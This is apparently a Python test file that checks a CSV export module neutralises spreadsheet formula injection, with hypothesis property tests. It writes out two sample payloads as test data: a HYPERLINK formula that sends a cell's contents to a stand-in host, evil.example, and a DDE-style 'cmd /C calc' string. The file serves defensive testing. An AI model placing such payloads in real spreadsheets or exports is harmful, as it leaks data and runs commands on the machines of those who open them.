"""CSV exports neutralise formulas (OWASP "CSV Injection"): text that a spreadsheet would run."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from opencx.core.spreadsheet import FORMULA_STARTS, csv_text, safe_cell

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_a_formula_in_a_name_is_written_as_text() -> None:
    rows = [{"name": ATTACK, "email": "@SUM(1+1)*cmd|' /C calc'!A0", "risk": 0.5}]
    cells = _cells(csv_text(["name", "email", "risk"], rows))
    assert cells[0] == ["name", "email", "risk"]
    assert cells[1] == ["'" + ATTACK, "'@SUM(1+1)*cmd|' /C calc'!A0", "0.5"]


def test_every_dangerous_first_character_and_nothing_else() -> None:
    for start in FORMULA_STARTS:
        assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell("Ann = Bob") == "Ann = Bob"
    assert safe_cell(-3.5) == -3.5  # a number is a value, not a formula
    assert safe_cell(None) is None


@given(st.text())
def test_no_text_cell_starts_like_a_formula_and_none_loses_a_character(value: str) -> None:
    written = safe_cell(value)
    assert not written.startswith(FORMULA_STARTS)
    assert written == value or written == "'" + value


@given(st.lists(st.text(alphabet=st.characters(exclude_characters="\r\n")), min_size=1, max_size=5))
def test_an_export_reads_back_as_the_safe_cells(values: list[str]) -> None:
    fields = [f"c{i}" for i in range(len(values))]
    row = dict(zip(fields, values, strict=False))
    cells = _cells(csv_text(fields, [row]))
    assert cells[0] == fields
    assert dict(zip(fields, cells[1], strict=False)) == {k: safe_cell(v) for k, v in row.items()}
